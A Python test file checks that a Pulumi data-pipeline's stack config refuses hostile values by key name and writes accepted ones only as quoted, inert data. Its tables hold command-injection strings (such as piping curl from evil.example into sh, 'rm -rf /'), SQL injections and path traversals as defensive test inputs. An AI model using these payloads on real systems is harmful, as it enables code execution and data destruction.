"""The config boundary: every value that reaches a shell script, SQL, a properties file, a JVM flag,
a URL or a Kubernetes name is checked against its grammar when the stack config is parsed, and a
bad one fails before any resource is registered, naming its key. Where a value is written out it
is quoted as well (components/quoting.py), so that what passes the grammar is inert data there.

Two parts: a table of hostile configs, each refused with its key named; and a property test that
throws generated hostile strings at every string field of the config models and checks that each
is either refused naming that field, or reaches the builders' output only as quoted data."""

from __future__ import annotations

import contextlib
import copy
import re
import shlex
import subprocess
import typing
import xml.etree.ElementTree as ElementTree
from typing import Any, Iterator, Literal
from unittest import mock

import pulumi
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from pydantic import BaseModel
from pydantic.alias_generators import to_camel

from components import kube
from components.batch import history_server, spark
from components.cloud import object_store
from components.cloud.access import S3Endpoint
from components.config import ConfigError, StackConfig, parse_stack_config
from components.ingestion import kafka, kafka_connect, postgres, topics
from tests import program as harness
from tests.languages import SH_LITERAL, parse_option_string, read_properties, single_quoted_spans, sql_tokens

NO_AWS = {"cloud": {"aws": {"enabled": False}}}


def with_value(base: dict[str, Any], key: str, value: Any) -> dict[str, Any]:
    """`base` (a raw stack config) with the dotted `key` set to `value`."""
    raw = copy.deepcopy(base)
    *parents, leaf = key.split(".")
    node = raw
    for part in parents:
        node = node.setdefault(part, {})
    node[leaf] = value
    return raw


def refusal(raw: dict[str, Any]) -> str:
    with pytest.raises(ConfigError) as caught:
        parse_stack_config(raw)
    return str(caught.value)


def names(message: str, key: str) -> bool:
    """Whether the error report names `key` itself (followed by ':', '.', or a space)."""
    return re.search(rf"datapipe:{re.escape(key)}(?=[.: ])", message) is not None


# --- hostile configs, each refused naming its key ------------------------------------------------------

HOSTILE: list[tuple[str, Any, dict[str, Any]]] = [
    # Versions: the plugin install script and URLs, the chart, the Spark jar path.
    ("ingestion.kafkaConnect.plugins.debeziumPostgres", "3.6.1.Final; curl evil.example | sh", {}),
    ("ingestion.kafkaConnect.plugins.debeziumPostgres", "$(reboot)", {}),
    ("ingestion.kafkaConnect.plugins.debeziumPostgres", "3.6.1.Final\nrm -rf /", {}),
    ("ingestion.kafkaConnect.plugins.debeziumPostgres", "../../../../etc/passwd", {}),
    ("ingestion.kafkaConnect.plugins.debeziumPostgres", "3.6.1.final", {}),
    ("ingestion.kafkaConnect.plugins.confluentS3Sink", "10.6.7 && id", {}),
    ("ingestion.kafkaConnect.plugins.confluentS3Sink", "`id`", {}),
    ("ingestion.kafkaConnect.plugins.confluentS3Sink", "latest", {}),
    ("batch.sparkOperator.version", "2.5.1'", {}),
    ("batch.spark.sparkVersion", "3.5.6;id", {}),
    # SQL identifiers: init.sql.
    ("ingestion.postgres.database", "ecommerce; DROP DATABASE postgres; --", {}),
    ("ingestion.postgres.database", 'x" OR 1=1 --', {}),
    ("ingestion.postgres.database", "Ecommerce", {}),
    ("ingestion.postgres.database", "d" * 64, {}),
    ("ingestion.postgres.database", "template1", {}),
    ("ingestion.postgres.database", "", {}),
    ("ingestion.postgres.cdcUser", "cdc_user WITH SUPERUSER", {}),
    ("ingestion.postgres.cdcUser", "x'; ALTER ROLE postgres PASSWORD 'pwned", {}),
    ("ingestion.postgres.cdcUser", "postgres", {}),
    ("ingestion.postgres.cdcUser", "pg_monitor", {}),
    ("ingestion.postgres.cdcUser", "public", {}),
    ("ingestion.postgres.publication", "dbz_publication FOR ALL TABLES", {}),
    ("ingestion.postgres.publication", "1publication", {}),
    ("ingestion.postgres.slotName", "", {}),
    ("ingestion.postgres.slotName", "Debezium-Slot", {}),
    ("ingestion.postgres.slotName", "s" * 64, {}),
    # Host names: Kafka's advertised listeners, URLs.
    ("ingestion.externalHost", "localhost\nadvertised.listeners=EXTERNAL://evil.example:9092", {}),
    ("ingestion.externalHost", "local host", {}),
    ("ingestion.externalHost", "-bad.example", {}),
    ("ingestion.externalHost", "::1", {}),
    ("ingestion.externalHost", "999.1.1.1", {}),
    ("batch.externalHost", "evil.example/path?x=1", {}),
    ("batch.externalHost", "a" * 64 + ".example", {}),
    ("cloud.objectStore.ingestionHost", "host:9000", {}),
    ("cloud.objectStore.ingestionHost", "batch_node", {}),
    # CIDRs: NetworkPolicy ipBlocks (an empty list renders `from: []`, which admits every source).
    ("ingestion.hostAccessCidrs", [], {}),
    ("batch.hostAccessCidrs", [], {}),
    ("ingestion.hostAccessCidrs", ["10.0.0.0/33"], {}),
    ("ingestion.hostAccessCidrs", ["10.0.0.1/8"], {}),
    ("ingestion.hostAccessCidrs", ["10.0.0.0"], {}),
    ("batch.hostAccessCidrs", ["not-a-cidr"], {}),
    ("batch.hostAccessCidrs", ["0.0.0.0/0 "], {}),
    # Where the manifests go: empty means "the current kube context" to the provider.
    ("clusters.ingestion.renderDirectory", "", {}),
    ("clusters.batch.renderDirectory", "   ", {}),
    ("clusters.batch.renderDirectory", "rendered\n/batch", {}),
    ("clusters.ingestion.kubeContext", "", {}),
    ("clusters.batch.renderDirectory", "./out/", {"clusters": {"ingestion": {"renderDirectory": "out"}}}),
    # Pulumi's customTimeouts: a duration Go parses, and only where something is awaited.
    ("clusters.ingestion.awaitTimeout", "3 minutes", {"clusters": {"ingestion": {"kubeContext": "kind-data-ingestion"}}}),
    ("clusters.batch.awaitTimeout", "0s", {"clusters": {"batch": {"kubeContext": "kind-batch-analytics"}}}),
    ("clusters.batch.awaitTimeout", "5m\n", {"clusters": {"batch": {"kubeContext": "kind-batch-analytics"}}}),
    ("clusters.ingestion.awaitTimeout", "3m", {"clusters": {"ingestion": {"renderDirectory": "out"}}}),
    # Buckets: S3's rules, and two buckets rather than one (the keys are scoped per bucket).
    ("cloud.objectStore.lakeBucket", "datapipe-raw", {}),
    ("cloud.aws.lakeBucket.name", "datapipe-prod", {"cloud": {"aws": {"rawBucket": {"name": "datapipe-prod"}}}}),
    ("cloud.aws.rawBucket.name", "192.168.1.1", {}),
    ("cloud.aws.rawBucket.name", "my..bucket", {}),
    ("cloud.aws.lakeBucket.name", "a.-b", {}),
    ("cloud.objectStore.rawBucket", "xn--bucket", {}),
    ("cloud.objectStore.rawBucket", "bucket-s3alias", {}),
    ("cloud.objectStore.lakeBucket", "ab", {}),
    ("cloud.objectStore.lakeBucket", "My-Lake", {}),
    ("cloud.objectStore.lakeBucket", "lake bucket; weed shell", {}),
    # Kubernetes names.
    ("ingestion.namespace", "kube-system", {}),
    ("batch.namespace", "default", {}),
    ("ingestion.namespace", "kube-public", {}),
    ("batch.namespace", "kube-node-lease", {}),
    ("ingestion.namespace", "n" * 70, {}),
    ("batch.namespace", "Batch", {}),
    ("batch.spark.smokeJob.name", "s" * 60, {}),
    # Cron.
    ("batch.dbt.schedule", "99 99 99 99 99", {}),
    ("batch.dbt.schedule", "* * * *", {}),
    ("batch.dbt.schedule", "*/0 * * * *", {}),
    ("batch.dbt.schedule", "0 0 1 * 8", {}),
    ("batch.dbt.schedule", "5-1 * * * *", {}),
    ("batch.dbt.schedule", "0 0 * * *; id", {}),
    ("batch.dbt.schedule", "TZ=UTC 0 0 * * *", {}),
    ("batch.dbt.schedule", "0 0 * * *\n", {}),
    # Numbers that must fit the receiving type.
    ("ingestion.topics.retentionHours", 1e15, {}),
    ("ingestion.topics.retentionHours", 2**31, {}),
    ("ingestion.topics.partitions", 2**31, {}),
    ("ingestion.s3Sink.flushSize", 2**31, {}),
    ("batch.historyServer.retentionDays", 10**12, {}),
    ("ingestion.kafka.memoryPerBroker", "9000000Ti", {}),
    ("ingestion.postgres.maxReplicationSlots", 10**6, {"ingestion": {"postgres": {"maxWalSenders": 10**6}}}),
    # Images.
    ("ingestion.postgres.image", "postgres:16.4; rm -rf /", {}),
    ("batch.spark.image", "apache/spark:3.5.6\n", {}),
    ("cloud.objectStore.image", "seaweedfs@sha256:$(id)", {}),
    ("batch.dbt.image", "ghcr.io/Dbt-Labs/dbt-snowflake:1.9.0", {}),
    # URLs and paths.
    ("batch.sparkOperator.repository", "https://charts.example/x\nrm -rf /", {}),
    ("batch.sparkOperator.repository", "https://user:secret@charts.example", {}),
    ("batch.sparkOperator.repository", "file:///etc", {}),
    ("batch.sparkOperator.chartPath", "", {}),
    ("batch.historyServer.eventLogDir", "s3a://datapipe-lake/logs -Dspark.ui.enabled=true", NO_AWS),
    ("batch.historyServer.eventLogDir", "s3a://datapipe-lake/../datapipe-raw", NO_AWS),
    ("batch.spark.packages", ["org.apache.hadoop:hadoop-aws:3.3.4,evil:evil:1"], {}),
    ("batch.spark.packages", ["org.apache.hadoop:hadoop-aws:3.3.4; curl evil.example | sh"], {}),
    ("batch.spark.icebergCatalog", "lake.x", {}),
    ("ingestion.s3Sink.prefix", "..", {}),
    ("ingestion.s3Sink.prefix", "cdc\n", {}),
    # Everything else that is a string.
    ("ingestion.kafka.clusterId", "AAAAAAAAAAAAAAAAAAAAAB", {}),
    ("ingestion.topics.tables", ["users", "users"], {}),
    ("cloud.aws.tags", {"aws:createdBy": "me"}, {}),
    ("cloud.aws.tags", {"team": "data\nteam"}, {}),
    ("cloud.snowflake.connection.role", "ACCOUNTADMIN; DROP DATABASE x", {}),
    ("cloud.snowflake.connection.user", "pulumi user", {}),
    ("cloud.snowflake.warehouse.name", "W" * 256, {}),
    ("batch.dbt.command", ["dbt\x00", "run"], {}),
]


@pytest.mark.parametrize("key, value, base", HOSTILE, ids=[f"{k}={v!r}"[:80] for k, v, _ in HOSTILE])
def test_hostile_config_is_refused_naming_its_key(key, value, base):
    message = refusal(with_value(base, key, value))
    assert names(message, key), message


def test_the_table_covers_every_class():
    assert len(HOSTILE) >= 60
    keys = {key for key, _, _ in HOSTILE}
    assert len(keys) >= 40


@pytest.mark.parametrize("key, value, base", [
    ("ingestion.hostAccessCidrs", ["10.0.0.0/8", "192.168.1.7/32", "fd00::/8"], {}),
    ("ingestion.externalHost", "192.168.1.10", {}),
    ("batch.externalHost", "host.docker.internal", {}),
    ("cloud.objectStore.ingestionHost", "172.18.0.3", {}),
    ("batch.dbt.schedule", "@daily", {}),
    ("batch.dbt.schedule", "*/15 9-17 * JAN,jul mon-FRI", {}),
    ("batch.dbt.schedule", "0 0 ? * 0", {}),
    ("ingestion.kafkaConnect.plugins.debeziumPostgres", "3.0.0.CR1",
     {"ingestion": {"kafkaConnect": {"plugins": {"debeziumPostgresSha512": "0" * 128}}}}),
    ("ingestion.postgres.image", "registry.example:5000/team/postgres@sha256:" + "a" * 64, {}),
    ("cloud.objectStore.lakeBucket", "datapipe.lake-1", {}),
    ("ingestion.topics.retentionHours", 2**31 - 1, {}),
    ("ingestion.postgres.cdcUser", "user", {}),
    ("ingestion.namespace", "n" * 63, {}),
    ("clusters.ingestion.renderDirectory", "rendered/ingestion", {}),
    ("clusters.ingestion.awaitTimeout", "3m", {"clusters": {"ingestion": {"kubeContext": "kind-data-ingestion"}}}),
    ("cloud.aws.tags", {"cost-center": "data platform: 42"}, {}),
    ("ingestion.kafka.clusterId", "MkU3OEVBNTcwNTJENDM2Qg", {}),
])
def test_values_within_the_grammar_are_accepted(key, value, base):
    parse_stack_config(with_value(base, key, value))


def test_program_registers_nothing_for_a_hostile_value():
    with pytest.raises(pulumi.RunError, match="datapipe:ingestion.postgres.cdcUser"):
        harness.run_program({"ingestion": {"postgres": {"cdcUser": "x; DROP ROLE postgres"}}})
    assert harness.LAST_MONITOR.recorded == []


# --- every string field: refused naming it, or inert where it is written ---------------------------------

def _unwrap(annotation: Any) -> Any:
    """Annotated[X, ...] -> X; Optional[X] -> X."""
    while True:
        origin = typing.get_origin(annotation)
        if origin is typing.Annotated:
            annotation = typing.get_args(annotation)[0]
        elif origin is typing.Union:
            annotation = next(a for a in typing.get_args(annotation) if a is not type(None))
        else:
            return annotation


def _is_string(annotation: Any) -> bool:
    annotation = _unwrap(annotation)
    return annotation is str or typing.get_origin(annotation) is Literal


def string_fields(model: type[BaseModel], prefix: str, instance: BaseModel) -> Iterator[tuple[str, str, Any]]:
    """(dotted key, form, default) of every string a stack file can set under `model`: form is
    `str`, `item` (a list of strings), `key` or `value` (a map of strings)."""
    for name, field in model.model_fields.items():
        key = f"{prefix}{field.alias or to_camel(name)}"
        annotation = _unwrap(field.annotation)
        default = getattr(instance, name, None)
        if isinstance(annotation, type) and issubclass(annotation, BaseModel):
            yield from string_fields(annotation, f"{key}.", default)
        elif _is_string(annotation):
            yield key, "str", default
        elif typing.get_origin(annotation) is tuple and _is_string(typing.get_args(annotation)[0]):
            yield key, "item", default[0] if default else None
        elif typing.get_origin(annotation) is dict:
            yield key, "key", None
            yield key, "value", None


FIELDS = list(string_fields(StackConfig, "", StackConfig()))
# A valid value for each field that is unset by default, which hostile strings are made from.
S3_SINK_ARCHIVE = "https://mirror.example.com/confluentinc-kafka-connect-s3-10.6.7.zip"
UNSET_DEFAULTS = {
    "clusters.ingestion.renderDirectory": "rendered/ingestion",
    "clusters.batch.renderDirectory": "rendered/batch",
    "clusters.ingestion.awaitTimeout": "3m",
    "clusters.batch.awaitTimeout": "90s",
    "ingestion.kafka.clusterId": "MkU3OEVBNTcwNTJENDM2Qg",
    "ingestion.kafkaConnect.plugins.debeziumPostgresSha512": "0123456789abcdef" * 8,
    "ingestion.kafkaConnect.plugins.confluentS3SinkArchive": S3_SINK_ARCHIVE,
    "ingestion.kafkaConnect.plugins.confluentS3SinkSha512": "fedcba9876543210" * 8,
    "batch.sparkOperator.chartPath": "charts/spark-operator-2.5.1.tgz",
    "batch.historyServer.eventLogDir": "s3a://datapipe-lake/spark-events",
    "cloud.aws.rawBucket.name": "datapipe-raw-prod",
    "cloud.aws.lakeBucket.name": "datapipe-lake-prod",
    "cloud.aws.tags": "team",
    "cloud.snowflake.connection.organizationName": "ORG",
    "cloud.snowflake.connection.accountName": "ACCT",
    "cloud.snowflake.connection.user": "PULUMI",
    "cloud.snowflake.connection.warehouse": "COMPUTE_WH",
    "cloud.snowflake.dbtUser.rsaPublicKey": harness.TEST_PUBLIC_KEY,
    "ingestion.monitoring.operatorLabels": "release",
    "batch.monitoring.operatorLabels": "release",
}
# The rest of the stack a field needs to be in play (the event logs' bucket must be the store's,
# and a Spark role's section needs its memory once it is given at all).
BASES = {"batch.historyServer.eventLogDir": NO_AWS,
         # A timeout goes with a cluster to await.
         "clusters.ingestion.awaitTimeout": {"clusters": {"ingestion": {"kubeContext": "kind-data-ingestion"}}},
         "clusters.batch.awaitTimeout": {"clusters": {"batch": {"kubeContext": "kind-batch-analytics"}}},
         "batch.spark.driver.coreLimit": {"batch": {"spark": {"driver": {"memory": "3Gi"}}}},
         "batch.spark.executor.coreLimit": {"batch": {"spark": {"executor": {"memory": "4Gi"}}}},
         # The S3 sink's archive and its hash go together.
         "ingestion.kafkaConnect.plugins.confluentS3SinkArchive":
             {"ingestion": {"kafkaConnect": {"plugins": {"confluentS3SinkSha512": "fedcba9876543210" * 8}}}},
         "ingestion.kafkaConnect.plugins.confluentS3SinkSha512":
             {"ingestion": {"kafkaConnect": {"plugins": {"confluentS3SinkArchive": S3_SINK_ARCHIVE}}}}}


def test_every_string_field_is_covered():
    keys = {key for key, _, _ in FIELDS}
    assert len(FIELDS) > 60
    for must in ("ingestion.postgres.cdcUser", "ingestion.kafkaConnect.plugins.debeziumPostgres",
                 "clusters.batch.renderDirectory", "batch.spark.packages", "cloud.aws.tags",
                 "cloud.objectStore.lakeBucket", "batch.dbt.schedule", "ingestion.hostAccessCidrs"):
        assert must in keys
    missing = [key for key, form, default in FIELDS if default is None and key not in UNSET_DEFAULTS]
    assert missing == []


PAYLOADS = ["; id", "$(id)", "`id`", "' OR '1'='1", '"; DROP TABLE users; --', "\n", "\r\n", "\x00", " ", "\t",
            "../", "..", "%0a", "\\", "#", "=", ":", ",", "&&", "|", ">", "*", "?", "{}", "${IFS}", "\u2028",
            "\u00e9", "\x1b[0m", "'", '"', "/", "@", "!", "\\n", "\\u000a", " -Dx=y", "\nx=y",
            # benign ones, so that values within the grammar reach the builders too
            "-", "_", ".", "a", "9", "x1"]
SPECIALS = "'\"`$\\;|&<>(){}[]*?!#~=:,%@^ \t\n\r\x0b\x1b\x7f\u00a0\u2028\u00e9-/._aZ09"


def hostile_values(default: str) -> st.SearchStrategy[str]:
    """Hostile strings, mostly close to the field's own valid value (so that they get past the
    outer layers of a grammar), some generated from scratch."""
    def insert(position: int, payload: str) -> str:
        at = position % (len(default) + 1)
        return default[:at] + payload + default[at:]

    return st.one_of(
        st.builds(insert, st.integers(0, 300), st.sampled_from(PAYLOADS)),
        st.builds(lambda a, b: insert(a, b), st.integers(0, 300), st.text(st.sampled_from(SPECIALS), max_size=6)),
        st.text(st.sampled_from(SPECIALS), max_size=16),
        st.text(st.characters(blacklist_categories=("Cs",)), max_size=16),
        st.sampled_from(["", " ", default.upper(), default + "\n", " " + default, default[:-1]]),
    )


def raw_config(key: str, form: str, value: str) -> dict[str, Any]:
    base = BASES.get(key, {})
    if form == "item":
        return with_value(base, key, [value])
    if form == "key":
        return with_value(base, key, {value: "data"})
    if form == "value":
        return with_value(base, key, {"team": value})
    return with_value(base, key, value)


# --- what the builders write, by language ---

@contextlib.contextmanager
def recording(module: Any, function: str) -> Iterator[list[tuple[Any, ...]]]:
    """The arguments of each call `module` makes to its quoting function `function`."""
    calls: list[tuple[Any, ...]] = []
    real = getattr(module, function)

    def record(*args: Any, **kwargs: Any) -> str:
        calls.append(args)
        return real(*args, **kwargs)

    with mock.patch.object(module, function, record):
        yield calls


class Text(typing.NamedTuple):
    language: str
    name: str
    text: str
    quoted: list[tuple[Any, ...]]  # what the builder quoted for the language, in order


def rendered(config: StackConfig) -> list[Text]:
    """Every text the builders write config values into, with the values they quoted there."""
    ingestion, batch, store = config.ingestion, config.batch, config.cloud.object_store
    texts = []
    with recording(postgres, "sql_identifier") as quoted:
        texts.append(Text("sql", "init.sql", postgres.init_sql(ingestion.postgres, ingestion.topics.tables), quoted))
    with recording(kafka_connect, "shell_word") as quoted:
        texts.append(Text("sh", "install-plugins.sh", kafka_connect.install_plugins_script(ingestion.kafka_connect),
                          quoted))
    with recording(topics, "shell_word") as quoted:
        texts.append(Text("sh", "ensure-topics.sh",
                          topics.ensure_topics_script(topics.declared_topics(ingestion.topics)), quoted))
    with recording(object_store, "shell_word") as quoted:
        texts.append(Text("sh", "object store", object_store.start_script(store), quoted))
    endpoints = kafka.in_cluster_endpoints(ingestion.kafka, ingestion.namespace, ingestion.external_host)
    for i in range(ingestion.kafka.brokers):
        with recording(kube, "properties_line") as quoted:
            texts.append(Text("properties", f"broker-{i}.properties", kube.properties_text(
                kafka.broker_properties(i, ingestion.kafka, ingestion.topics, endpoints)), quoted))
    endpoint = S3Endpoint(store.region, object_store.in_cluster_endpoint(batch.namespace))
    # The History Server as configured, and with its event logs on s3a (the s3a jar script).
    history = batch.history_server
    on_s3 = history if history.event_log_dir else history.model_copy(
        update={"event_log_dir": f"s3a://{store.lake_bucket}/spark-events"})
    for server, where in ((history, ""), (on_s3, " (event logs on s3a)")):
        log_dir = spark.event_log_dir(server.event_log_dir)
        conf = spark.spark_conf(batch.spark, store.lake_bucket, endpoint, log_dir)
        with recording(spark, "properties_line") as quoted:
            texts.append(Text("properties", "spark-defaults.conf" + where, spark.defaults_text(
                batch.spark, conf, batch.namespace, "spark-driver", history_server.event_log_claim(server)), quoted))
        with recording(history_server, "jvm_option") as quoted:
            texts.append(Text("jvm", "SPARK_HISTORY_OPTS" + where, history_server.history_opts(
                server, log_dir, endpoint if server.event_log_dir else None), quoted))
    with recording(history_server, "shell_word") as words, recording(history_server, "xml_text") as xml:
        manifests = history_server.manifests(on_s3, batch.spark, batch.namespace, "batch", endpoint)
    pod = next(m for m in manifests if m["kind"] == "Deployment")["spec"]["template"]["spec"]
    texts.append(Text("sh", "s3a jars", pod["initContainers"][0]["command"][2], words))
    core_site = next(m for m in manifests if m["kind"] == "ConfigMap")["data"]["core-site.xml"]
    texts.append(Text("xml", "core-site.xml", core_site, xml))
    return texts


DEFAULT_TEXTS = {t.name: t.text for t in rendered(StackConfig())}


def sql_shape(text: str) -> list[tuple[str, str]]:
    """The token stream with the content of quoted identifiers and strings left out."""
    return [(t.kind, "" if t.kind in ("ident", "string") else t.value) for t in sql_tokens(text)]


def assert_inert(config: StackConfig, value: str) -> None:
    """Each value a builder quoted is one token of its language holding exactly that value, and the
    text around it is what it always is."""
    for text in rendered(config):
        where = (text.name, value)
        if text.language == "sql":
            tokens = sql_tokens(text.text)
            # (A name quoted once may be used in several statements.)
            assert {t.value for t in tokens if t.kind == "ident"} == {n for n, in text.quoted}, where
            # Whatever the names, the statements are the same (the tables captured may differ).
            reference = postgres.init_sql(config.ingestion.postgres.model_copy(
                update={"database": "d", "cdc_user": "u", "publication": "p"}), config.ingestion.topics.tables)
            assert sql_shape(text.text) == sql_shape(reference), where
        elif text.language == "sh":
            if text.text != DEFAULT_TEXTS[text.name]:
                result = subprocess.run(["sh", "-n"], input=text.text, text=True, capture_output=True)
                assert result.returncode == 0, (where, result.stderr)
            lexer = shlex.shlex(text.text, posix=True, punctuation_chars=True)
            lexer.whitespace_split = True
            words = list(lexer)
            assert all(str(word) in words for word, in text.quoted), where
            # A value sh would read specially appears only inside single quotes (checked where it
            # cannot be a coincidence: the value appears nowhere in the default script).
            if value in text.text and value not in DEFAULT_TEXTS[text.name] and not SH_LITERAL.fullmatch(value):
                spans = single_quoted_spans(text.text)
                for match in re.finditer(re.escape(value), text.text):
                    assert any(s <= match.start() and match.end() <= e for s, e in spans), where
        elif text.language == "properties":
            # One entry per line, read back as exactly what the builder wrote: no value spills into
            # an entry of its own.
            assert read_properties(text.text) == [(str(k), str(v)) for k, v, *_ in text.quoted], where
            assert len(text.text.splitlines()) == len(text.quoted), where
        elif text.language == "jvm":
            assert parse_option_string(text.text) == [f"-D{k}={v}" for k, v in text.quoted], where
        elif text.language == "xml":
            read = [e.text or "" for e in ElementTree.fromstring(text.text).iter() if e.tag in ("name", "value")]
            assert read == [str(v) for v, in text.quoted], where


@pytest.mark.parametrize("key, form, default", FIELDS, ids=[f"{k}[{f}]" for k, f, _ in FIELDS])
@settings(max_examples=25, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_hostile_strings_are_refused_naming_the_field_or_written_inert(key, form, default, data):
    valid = default if isinstance(default, str) else UNSET_DEFAULTS[key]
    value = data.draw(hostile_values(valid), label="value")
    try:
        config = parse_stack_config(raw_config(key, form, value))
    except ConfigError as error:
        assert names(str(error), key), str(error)
        return
    assert_inert(config, value)
